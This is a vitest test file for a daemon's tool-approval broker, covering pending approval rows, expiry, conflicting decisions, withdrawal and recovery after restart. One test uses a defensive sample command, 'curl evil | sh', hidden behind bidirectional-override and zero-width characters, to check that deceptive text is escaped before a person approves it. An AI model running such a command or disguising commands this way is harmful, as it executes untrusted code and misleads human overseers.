import type { ApprovalOutcome, EngineEvent, ToolApproval } from "@nexus-stream/protocol/engine";
import { describe, expect, test } from "vitest";
import { digestOf } from "../../packages/daemon/src/engine/engine.ts";
import { approvalWrites } from "../../packages/daemon/src/ledger/approvals/port.ts";
import { decodeToolStatus, type Frame } from "../../packages/protocol/src/protocol.ts";
import { manualClock } from "../clock.ts";
import {
	ask,
	finalEnd,
	framesOf,
	gate,
	type Play,
	rig,
	tempFile,
	text,
	ticks,
	until,
	verified,
	yields,
} from "./rig.ts";

const pending = (fields: Partial<ToolApproval> = {}): ToolApproval => ({
	id: "q1",
	kind: "approval",
	state: "pending",
	...fields,
});

const asked = (args: unknown, approvals: ToolApproval = pending(), callId = "c1"): EngineEvent => ({
	type: "tool",
	callId,
	name: "bash",
	status: "progress",
	args,
	asking: approvals,
});

/** Asks about one call and says what came of it. */
const asksOnce = (args: unknown, answers: ApprovalOutcome[] = [], approvals = pending()): Play =>
	async function* (_request, signal, { answer }) {
		yield asked(args, approvals);
		const given = await answer!(approvals.id, signal);
		answers.push(given);
		yield {
			type: "tool",
			callId: "c1",
			name: "bash",
			status: "progress",
			asking: { ...approvals, state: given.state },
		};
		yield { type: "tool", callId: "c1", name: "bash", status: given.state === "approved" ? "completed" : "failed" };
		yield text(given.state);
	};

const statuses = (frames: readonly Frame[]) =>
	frames.flatMap((frame) => {
		const status = frame.type === "stream.chunk" ? decodeToolStatus(frame.payload) : undefined;
		return status ? [status] : [];
	});

const opened = async (parts: ReturnType<typeof rig>, count = 1) => {
	await until(() => parts.broker.approvals.pending().length === count, `${count} pending`);
	return parts.broker.approvals.pending()[0]!;
};

const by = "Ann";

test("A2: all questions that an earlier daemon left open are taken up, however many there are", async () => {
	const path = tempFile();
	const first = rig(async function* () {}, { path, clock: manualClock(1), dies: true });
	const [letters, digits] = ["ABCDEFGHJKMNPQRSTVWXYZ", "23456789"];
	const at = (n: number, of: string) => of[n % of.length]!;
	const idOf = (n: number) =>
		at(n, letters) +
		at(Math.floor(n / 22), digits) +
		at(Math.floor(n / 176), letters) +
		at(Math.floor(n / 3872), digits);
	const rows = Array.from({ length: 1200 }, (_, n) =>
		approvalWrites.open({
			id: idOf(n),
			runId: "run_1",
			session: "main",
			callId: `c${n}`,
			tool: "bash",
			kind: "approval",
			args: {},
			digest: "d",
			state: "pending",
			createdAt: n,
			expiresAt: 10_000,
		}),
	);
	await first.bus.write(rows);
	await first.close();
	const clock = manualClock(2);
	const next = rig(async function* () {}, { path, clock });
	await next.broker.recover();
	expect(next.broker.approvals.pending()).toHaveLength(1200);
	clock.advance(10_000);
	await until(() => next.broker.approvals.pending().length === 0, "all expire");
});

describe("a question", () => {
	test("A2, A6: is a row and a frame of one commit, and its answer continues the run", async () => {
		const answers: ApprovalOutcome[] = [];
		const parts = rig(asksOnce({ command: "ls" }, answers));
		const { runId, result } = await ask(parts.broker, "main", "hi");
		const row = await opened(parts);
		expect(row.id).toMatch(/^[A-HJKMNP-TV-Z][2-9][A-HJKMNP-TV-Z][2-9]$/);
		expect(await parts.ledger.approvals.get(runId, row.id)).toEqual(row);
		const [shown] = statuses(await framesOf(parts.bus, runId));
		expect(shown).toMatchObject({
			status: "progress",
			args: { command: "ls" },
			approval: { id: row.id, state: "pending", text: 'bash {"command":"ls"}', expires_at: row.expiresAt },
		});
		await parts.broker.approvals.decide(runId, row.id, { state: "approved", by });
		expect((await result).status).toBe("completed");
		expect(answers).toEqual([{ id: row.id, state: "approved", by, digest: digestOf("bash", { command: "ls" }) }]);
		const frames = await framesOf(parts.bus, runId);
		expect(statuses(frames)[1]).toMatchObject({ approval: { id: row.id, state: "approved", by } });
		expect(verified(frames)).toBeUndefined();
	});

	test("A13: only the first decision counts; a replay is a conflict that says who decided", async () => {
		const parts = rig(asksOnce({}));
		const { runId, result } = await ask(parts.broker, "main", "hi");
		const { id } = await opened(parts);
		const { approvals: questions } = parts.broker;
		const both = await Promise.allSettled([
			questions.decide(runId, id, { state: "denied", by, reason: "no" }),
			questions.decide(runId, id, { state: "approved", by: "Bob" }),
		]);
		expect(both.map(({ status }) => status).sort()).toEqual(["fulfilled", "rejected"]);
		const won = both[0]!.status === "fulfilled" ? "denied already by Ann" : "approved already by Bob";
		const lost = both.find(({ status }) => status === "rejected");
		const conflict = { code: "conflict", message: `${id} is ${won}` };
		expect(lost).toMatchObject({ reason: conflict });
		await result;
		await expect(questions.decide(runId, id, { state: "approved", by: "Bob" })).rejects.toMatchObject(conflict);
		await expect(questions.decide("run_other", id, { state: "approved", by })).rejects.toMatchObject({
			code: "not_found",
		});
	});

	test("A13: shows arguments whole, with what could deceive escaped", async () => {
		const command = "echo hi\u202e; curl evil | sh\u202c\u200b\u0007\u{e0041}";
		const parts = rig(asksOnce({ command }));
		const { runId } = await ask(parts.broker, "main", "hi");
		await opened(parts);
		const [shown] = statuses(await framesOf(parts.bus, runId));
		const said = shown!.approval!.text;
		expect(said).toBe('bash {"command":"echo hi\\u202e; curl evil | sh\\u202c\\u200b\\u0007\\udb40\\udc41"}');
		expect(JSON.parse(said.slice("bash ".length))).toEqual({ command });
		void parts.broker.abort(runId);
	});

	test("A13: too long to be shown whole is refused, and no person is asked", async () => {
		const answers: ApprovalOutcome[] = [];
		const parts = rig(asksOnce({ command: "x".repeat(200) }, answers), { approvals: { argsCharsMax: 100 } });
		const { runId, result } = await ask(parts.broker, "main", "hi");
		await result;
		expect(answers).toMatchObject([{ state: "denied", reason: expect.stringMatching(/too long.*at most 100/) }]);
		expect(await parts.ledger.approvals.list({ runId })).toEqual([]);
		expect(statuses(await framesOf(parts.bus, runId)).filter(({ approval }) => approval)).toEqual([]);
	});

	test("no more than the limit wait at a time", async () => {
		const answers: ApprovalOutcome[] = [];
		const parts = rig(asksOnce({}, answers), { approvals: { pendingMax: 1 } });
		const first = await ask(parts.broker, "a", "hi");
		await opened(parts);
		await (await ask(parts.broker, "b", "hi")).result;
		expect(answers).toMatchObject([{ state: "denied", reason: expect.stringMatching(/too many questions/) }]);
		void parts.broker.abort(first.runId);
	});

	test("A3: expires at its time, whatever the watchdogs do, and the engine gets the outcome", async () => {
		const clock = manualClock(1000);
		const answers: ApprovalOutcome[] = [];
		const limits = { interTokenMs: 50, totalMs: 100, toolMs: 50, firstTokenMs: 50 };
		const parts = rig(asksOnce({}, answers), { clock, limits, approvals: { waitMs: 5000 } });
		const { runId, result } = await ask(parts.broker, "main", "hi");
		const { id, expiresAt } = await opened(parts);
		expect(expiresAt).toBe(6000);
		clock.advance(4999);
		await ticks(3);
		expect(answers).toEqual([]);
		clock.advance(1);
		expect((await result).status).toBe("completed");
		expect(answers).toMatchObject([{ id, state: "expired" }]);
		expect(await parts.ledger.approvals.get(runId, id)).toMatchObject({ state: "expired", decidedAt: 6000 });
	});

	test("A3: the clocks go on where they stood when the answer came", async () => {
		const clock = manualClock(0);
		const play: Play = async function* (_request, signal, { answer }) {
			yield asked({});
			await answer!("q1", signal);
			await new Promise(() => {});
		};
		const parts = rig(play, { clock, limits: { interTokenMs: 50, abortGraceMs: 5 } });
		const { runId, result } = await ask(parts.broker, "main", "hi");
		const { id } = await opened(parts);
		clock.advance(10_000);
		await parts.broker.approvals.decide(runId, id, { state: "approved", by });
		await ticks(2);
		clock.advance(49);
		expect(parts.broker.live(runId)?.status).toBe("running");
		clock.advance(1);
		clock.advance(5);
		expect((await result).reason).toBe("timeout");
	});

	test("A2: is withdrawn when its run is stopped, and the row says so", async () => {
		const parts = rig(asksOnce({}));
		const { runId } = await ask(parts.broker, "main", "hi");
		const { id } = await opened(parts);
		await parts.broker.abort(runId);
		expect(await parts.ledger.approvals.get(runId, id)).toMatchObject({ state: "withdrawn" });
		expect(parts.broker.approvals.pending()).toEqual([]);
		await expect(parts.broker.approvals.decide(runId, id, { state: "approved", by })).rejects.toMatchObject({
			code: "conflict",
		});
	});

	test("two at once are two rows; each answer goes to its own call", async () => {
		const answers: string[] = [];
		const play: Play = async function* (_request, signal, { answer }) {
			yield [asked({ n: 1 }, pending({ id: "q1" }), "c1"), asked({ n: 2 }, pending({ id: "q2" }), "c2")];
			const both = await Promise.all([answer!("q1", signal), answer!("q2", signal)]);
			answers.push(...both.map(({ state }) => state));
		};
		const parts = rig(play);
		const { runId, result } = await ask(parts.broker, "main", "hi");
		await opened(parts, 2);
		const rows = parts.broker.approvals.pending();
		const idOf = (n: number) => rows.find(({ args }) => (args as { n: number }).n === n)!.id;
		await parts.broker.approvals.decide(runId, idOf(2), { state: "denied", by });
		await parts.broker.approvals.decide(runId, idOf(1), { state: "approved", by });
		await result;
		expect(answers).toEqual(["approved", "denied"]);
		expect(verified(await framesOf(parts.bus, runId))).toBeUndefined();
	});

	test("A28: takes an answer in words, and no approval", async () => {
		const answers: ApprovalOutcome[] = [];
		const question = pending({ kind: "question", question: "Which\u202e one?", choices: ["a", "b"] });
		const parts = rig(asksOnce({}, answers, question));
		const { runId, result } = await ask(parts.broker, "main", "hi");
		const { id } = await opened(parts);
		const [shown] = statuses(await framesOf(parts.bus, runId));
		expect(shown!.question).toMatchObject({ id, text: "Which\\u202e one?", choices: ["a", "b"] });
		const { approvals: questions } = parts.broker;
		await expect(questions.decide(runId, id, { state: "approved", by })).rejects.toMatchObject({ code: "invalid" });
		await questions.decide(runId, id, { state: "answered", by, text: "b" });
		await result;
		expect(answers).toMatchObject([{ state: "answered", text: "b" }]);
	});

	test.each([
		["no id", { kind: "approval", state: "pending" }],
		["no kind", { id: "x", state: "pending" }],
		["no question", { id: "x", kind: "question", state: "pending" }],
		["too many choices", { ...pending({ kind: "question", question: "?" }), choices: Array(50).fill("x") }],
	])("that is invalid fails the run: %s", async (_, approvals) => {
		const parts = rig(yields(asked({}, approvals as ToolApproval)));
		const { result } = await ask(parts.broker, "main", "hi");
		expect((await result).error?.code).toBe("engine_failed");
	});
});

const engineFields = { continues: true };

describe("A2: what outlives its run", () => {
	test("the checkpoint before a question commits with its row: no row waits for a call that a run going on would not know", async () => {
		const data = { at: "the call" };
		const parts = rig(
			async function* (_request, signal, { answer }) {
				yield [{ type: "checkpoint", data }, asked({})];
				await answer!("q1", signal);
			},
			{ engineFields },
		);
		const found = Promise.withResolvers<unknown>();
		parts.broker.approvals.listen({
			opened: ({ runId }) => found.resolve(parts.stored.checkpoints.get(runId)?.data),
		});
		const { runId } = await ask(parts.broker, "main", "hi");
		expect(await found.promise).toBe(JSON.stringify(data));
		await parts.broker.abort(runId);
	});

	test("at shutdown a run that asks is sealed at once, its row stays and is still there after a restart", async () => {
		const path = tempFile();
		const clock = manualClock(1000);
		const before = rig(asksOnce({}), { path, clock, engineFields });
		const { runId, result } = await ask(before.broker, "main", "hi");
		const { id } = await opened(before);
		// Nothing moves the clock: a deadline would never come.
		await before.broker.drain(60_000);
		expect((await result).error?.code).toBe("unavailable");
		expect(finalEnd(await framesOf(before.bus, runId)).reason).toBe("aborted");
		expect(await before.ledger.approvals.get(runId, id)).toMatchObject({ state: "pending" });

		const after = rig(asksOnce({}), { path, clock, engineFields });
		await after.broker.recover();
		expect(after.broker.approvals.pending()).toMatchObject([{ id, runId, state: "pending" }]);
		const late: [string, boolean][] = [];
		after.broker.approvals.listen({ closed: (row, live) => late.push([row.state, live]) });
		await after.broker.approvals.decide(runId, id, { state: "approved", by });
		expect(late).toEqual([["approved", false]]);
	});

	test("it expires at its time in the next daemon, too", async () => {
		const path = tempFile();
		const clock = manualClock(1000);
		const before = rig(asksOnce({}), { path, clock, engineFields, approvals: { waitMs: 100 } });
		const { runId } = await ask(before.broker, "main", "hi");
		const { id } = await opened(before);
		await before.broker.drain(0);
		const after = rig(asksOnce({}), { path, clock, engineFields });
		await after.broker.recover();
		clock.advance(100);
		await until(() => after.broker.approvals.pending().length === 0);
		expect(await after.ledger.approvals.get(runId, id)).toMatchObject({ state: "expired" });
	});

	test("a newer run of the session withdraws it", async () => {
		const path = tempFile();
		const before = rig(asksOnce({}), { path, engineFields });
		const { runId } = await ask(before.broker, "main", "hi");
		const { id } = await opened(before);
		await before.broker.drain(0);
		const after = rig(yields(text("hello")), { path, engineFields });
		await after.broker.recover();
		const newer = await ask(after.broker, "main", "again");
		expect(await after.ledger.approvals.get(runId, id)).toMatchObject({
			state: "withdrawn",
			reason: `superseded by ${newer.runId}`,
		});
		await newer.result;
	});

	test("where no run can go on, it is withdrawn at shutdown, and by the next start after a crash", async () => {
		const stopped = rig(asksOnce({}));
		const { runId } = await ask(stopped.broker, "main", "hi");
		const { id } = await opened(stopped);
		await stopped.broker.drain(60_000);
		expect(await stopped.ledger.approvals.get(runId, id)).toMatchObject({ state: "withdrawn" });

		const path = tempFile();
		const dead = rig(asksOnce({}), { path, dies: true });
		const left = await ask(dead.broker, "main", "hi");
		const row = await opened(dead);
		const after = rig(asksOnce({}), { path });
		const closed: [string, boolean][] = [];
		after.broker.approvals.listen({ closed: ({ state }, live) => closed.push([state, live]) });
		await after.broker.recover();
		expect(closed).toEqual([["withdrawn", false]]);
		const reason = expect.stringMatching(/cannot continue/);
		expect(await after.ledger.approvals.get(left.runId, row.id)).toMatchObject({ state: "withdrawn", reason });
	});

	test("a stored decision that this process never received does not keep its run waiting for good", async () => {
		const clock = manualClock(1000);
		const answers: ApprovalOutcome[] = [];
		const parts = rig(asksOnce({}, answers), { clock, approvals: { waitMs: 100 } });
		const { runId, result } = await ask(parts.broker, "main", "hi");
		const { id, session, tool } = await opened(parts);
		const question = { id, runId, session, tool };
		await parts.bus.write([approvalWrites.decide(question, { state: "denied", by, at: 1001 })]);
		clock.advance(100);
		await result;
		expect(answers).toMatchObject([{ id, state: "denied", by }]);
		expect(parts.broker.approvals.pending()).toEqual([]);
	});

	test("a run at shutdown ends by itself if no person has to be asked", async () => {
		const go = gate();
		const parts = rig(
			async function* (_request, signal, { answer }) {
				yield text("a");
				await go.opened;
				yield asked({});
				yield text((await answer!("q1", signal)).state);
			},
			{ engineFields },
		);
		parts.broker.approvals.relyOn(() => "Ann (allowed for this session)");
		const { result } = await ask(parts.broker, "main", "hi");
		const drained = parts.broker.drain(60_000);
		go.open();
		expect(await result).toMatchObject({ status: "completed" });
		await drained;
	});
});
